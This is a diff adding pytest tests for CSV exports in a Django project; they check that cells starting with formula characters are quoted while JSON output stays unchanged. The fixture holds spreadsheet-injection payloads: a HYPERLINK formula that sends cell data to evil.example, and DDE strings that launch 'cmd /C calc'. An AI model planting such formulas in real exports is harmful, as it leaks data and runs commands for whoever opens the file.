@@ -169,3 +169,82 @@ def test_download_queries_do_not_grow_with_content(client, content, django_asser
     for name in exports.TABLES:
         with django_assert_max_num_queries(6):
             download(client, name, "json")
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Open the report")',
+    "credit": "+1+cmd|' /C calc'!A0",
+    "caption": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "place": "\t=1+1",
+    "alt": "\r=1+1",
+    "spaced": "   =1+1",
+}
+
+
+@pytest.fixture
+def formulas(db):
+    source = factories.make_source(key="formula-source", title=FORMULAS["title"])
+    event = factories.make_event(
+        slug="formulas",
+        title_en=FORMULAS["title"],
+        summary_en=FORMULAS["summary"],
+        place_en=FORMULAS["place"],
+        sources=[source],
+    )
+    factories.make_photo(
+        slug="formula-photo",
+        credit=FORMULAS["credit"],
+        caption_en=FORMULAS["caption"],
+        alt_text_en=FORMULAS["alt"].strip() + " carnations",
+        title_ru=FORMULAS["spaced"],
+        source=source,
+        events=[event],
+    )
+    factories.make_figure(key="formula-figure", value_low=131, source=source)
+
+
+def formula_cells(tables):
+    """Every cell of the tables that a spreadsheet would run as a formula."""
+    return [
+        (name, column, value)
+        for name, rows in tables.items()
+        for row in rows
+        for column, value in row.items()
+        if value.lstrip(" ").startswith(exports.FORMULA_STARTS)
+    ]
+
+
+def test_no_csv_cell_is_a_formula_and_the_text_stays_readable(client, formulas, tmp_path):
+    """Downloads and the export command quote formula text; JSON keeps the text as it is."""
+    downloaded = {name: download(client, name, "csv") for name in exports.TABLES}
+    call_command("export_data", tmp_path, "--release", "r", stdout=io.StringIO())
+    exported = {
+        name: list(csv.DictReader(io.StringIO((tmp_path / "r" / f"{name}.csv").read_text())))
+        for name in exports.TABLES
+    }
+    for tables in (downloaded, exported):
+        assert formula_cells(tables) == []
+        (event,) = [row for row in tables["events"] if row["slug"] == "formulas"]
+        assert event["title_en"] == "'" + FORMULAS["title"]
+        assert event["summary_en"] == "'" + FORMULAS["summary"]
+        assert event["place_en"] == "'" + FORMULAS["place"]
+        (photo,) = [row for row in tables["photos"] if row["slug"] == "formula-photo"]
+        assert photo["credit"] == "'" + FORMULAS["credit"]
+        assert photo["caption_en"] == "'" + FORMULAS["caption"]
+        assert photo["title_ru"] == "'" + FORMULAS["spaced"]
+        (figure,) = [row for row in tables["figures"] if row["key"] == "formula-figure"]
+        assert figure["value_low"] == "131"
+    (event,) = [row for row in download(client, "events", "json") if row["slug"] == "formulas"]
+    assert event["title_en"] == FORMULAS["title"]
+
+
+def test_numbers_stay_numbers_and_plain_text_is_untouched():
+    assert exports.csv_cell(-5) == -5
+    assert exports.csv_cell(-2.5) == -2.5
+    assert exports.csv_cell(131) == 131
+    assert exports.csv_cell(None) == ""
+    assert exports.csv_cell("Baku, 20 January 1990") == "Baku, 20 January 1990"
+    assert exports.csv_cell("-5") == "'-5"
+    rows = list(csv.reader(io.StringIO(exports.write_csv(["a", "b"], [{"a": -5, "b": "=1"}]))))
+    assert rows == [["a", "b"], ["-5", "'=1"]]
